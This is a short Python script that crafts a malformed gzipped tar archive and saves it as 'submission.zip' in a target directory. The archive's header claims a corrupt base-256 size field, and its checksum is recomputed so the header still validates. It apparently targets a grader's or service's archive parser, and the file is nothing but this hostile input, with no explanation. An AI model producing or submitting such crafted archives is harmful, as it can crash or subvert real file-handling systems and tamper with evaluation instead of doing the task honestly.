import gzip, io, sys, tarfile
def header(kind=b'0', size=3, name='submission.py', **more):
    entry = tarfile.TarInfo(name); entry.type, entry.size = kind, size
    for key, value in more.items(): setattr(entry, key, value)
    return entry.tobuf(tarfile.GNU_FORMAT)
def hand_in(data):
    open(sys.argv[1] + '/submission.zip', 'wb').write(gzip.compress(data + bytes(1024)))

block = bytearray(header())
block[124:136] = b'\xff' * 10 + b'\xfe\x00'
block[148:156] = b' ' * 8
block[148:156] = b'%06o\0 ' % sum(block)
hand_in(bytes(block) * 3)
